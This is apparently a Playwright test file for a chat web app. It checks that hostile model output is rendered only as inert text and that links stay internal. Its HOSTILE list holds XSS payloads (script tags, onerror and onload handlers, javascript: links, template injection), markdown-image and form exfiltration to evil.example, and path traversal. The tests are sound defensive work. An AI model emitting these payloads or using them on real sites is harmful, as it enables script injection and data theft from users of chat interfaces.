"""What a model or a client wrote is shown as text: it runs nothing, loads nothing and leads nowhere."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.agent.openai_server import Endpoint, Say, serve
from tests.web.serving import Demo
from tests.web.talking import answer, ask

HOSTILE = (
    "<script>globalThis.pwned = 1</script>",
    '<img src="https://evil.example/x.png" onerror="globalThis.pwned = 1">',
    "![a picture](https://evil.example/leak.png?q=secret)",
    "[click me](https://evil.example/) and [me](javascript:globalThis.pwned=1)",
    "<https://evil.example/auto> and https://evil.example/bare",
    '<a href="javascript:globalThis.pwned=1">link</a>',
    "<svg/onload=globalThis.pwned=1> <iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '<form action="https://evil.example"><input name=password></form>',
    '<style>@import url("https://evil.example/x.css"); body { display: none }</style>',
    "{{ constructor.constructor('globalThis.pwned = 1')() }}",
    "`</code><script>globalThis.pwned = 1</script>`",
    "| a |\n|---|\n| <img src=x onerror=globalThis.pwned=1> |",
    '[project javascript:globalThis.pwned=1] [project ../../sign-out] [row_x "><script>globalThis.pwned=1</script>]',
    "\ue0000\ue001 \ue00099\ue001",
)


@pytest.fixture(scope="module")
def model() -> Iterator[Endpoint]:
    with serve(Say(("",))) as endpoint:
        yield endpoint


@pytest.fixture(scope="module")
def modelled(serve_demo: Callable[..., Demo], model: Endpoint) -> Demo:
    return serve_demo(GREENLIGHT_MODEL="test", GREENLIGHT_MODEL_BASE_URL=model.url, GREENLIGHT_MODEL_API_KEY="none")


def test_a_hostile_answer_is_only_words(modelled: Demo, model: Endpoint, page: Page) -> None:
    # The page's troubles hold every request to another site: one would fail this test.
    model.steps[:] = [Say((*(f"{words}\n\n" for words in HOSTILE), "The end."))]
    modelled.sign_in(page)
    ask(page, "<img src=x onerror=globalThis.pwned=1>")
    for _ in range(2):
        expect(answer(page)).to_contain_text("The end.", timeout=45_000)
        page.wait_for_timeout(300)
        assert page.evaluate("globalThis.pwned") is None
        assert page.locator("#chat-scroll").locator("script, img, iframe, form, input, style, svg").count() == 0
        # A chip leads to a row of ours, and only letters of an id get into its address.
        leads = page.locator("#chat-scroll a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
        assert all(address.startswith("/rows/") and ".." not in address for address in leads), leads
        page.reload()
    expect(page.locator(".asked")).to_contain_text("<img src=x onerror=globalThis.pwned=1>")
